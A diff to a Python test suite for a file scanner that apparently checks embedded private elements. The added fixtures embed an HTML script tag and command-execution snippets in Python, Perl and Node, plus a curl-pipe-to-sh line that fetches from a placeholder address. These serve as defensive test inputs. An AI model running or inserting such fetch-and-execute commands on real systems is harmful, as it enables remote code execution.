@@ -221,6 +221,9 @@ FIRING: dict[str, Callable[[], bytes]] = {
     "DS-VR-MISMATCH": _text(0x00283010, "OB", bytes(12)),
     "DS-WIDE": _wide,
     "DS-UNDEF-ILLEGAL": lambda: _fragments(item(b"ab")),
+    "EMB-HTML": lambda: (
+        carrier().with_(*private(b"<html><script>show(1)</script></html>", "UT")).data
+    ),
     "GAP-DATA": lambda: _inside(b"\xff\xff\xff\xff and other bytes that are no element at all"),
     "GAP-DELIMITER": lambda: _delimited(ITEM_END[:4] + b"hide" + SEQUENCE_END),
     "META-DICM-COINCIDENCE": _coincidence,
@@ -265,12 +268,20 @@ def test_an_id_is_fired_by_a_file(id_: str) -> None:
 
 @pytest.mark.parametrize("rule", sorted(name.name for name in ScanSettings().pack.rules))
 def test_a_rule_is_fired_by_a_file(rule: str) -> None:
-    reports = [*fixture_reports().values(), scan_bytes(_shell())]
+    reports = [*fixture_reports().values(), *(scan_bytes(_private(each)) for each in _SCRIPTS)]
     assert any(each.rule == rule for found in reports for each in found.findings)
 
 
-def _shell() -> bytes:
-    return carrier().with_(*private(b"curl -s http://192.0.2.1/x | sh; chmod +x /tmp/x")).data
+_SCRIPTS = (
+    b"curl -s http://192.0.2.1/x | sh; chmod +x /tmp/x",
+    b"import os\nos.system('id')\n",
+    b"use strict;\nsystem('id');\n",
+    b"require('child_process').exec('id')",
+)
+
+
+def _private(content: bytes) -> bytes:
+    return carrier().with_(*private(content)).data
 
 
 # ---------------------------------------------------------------------- what does not
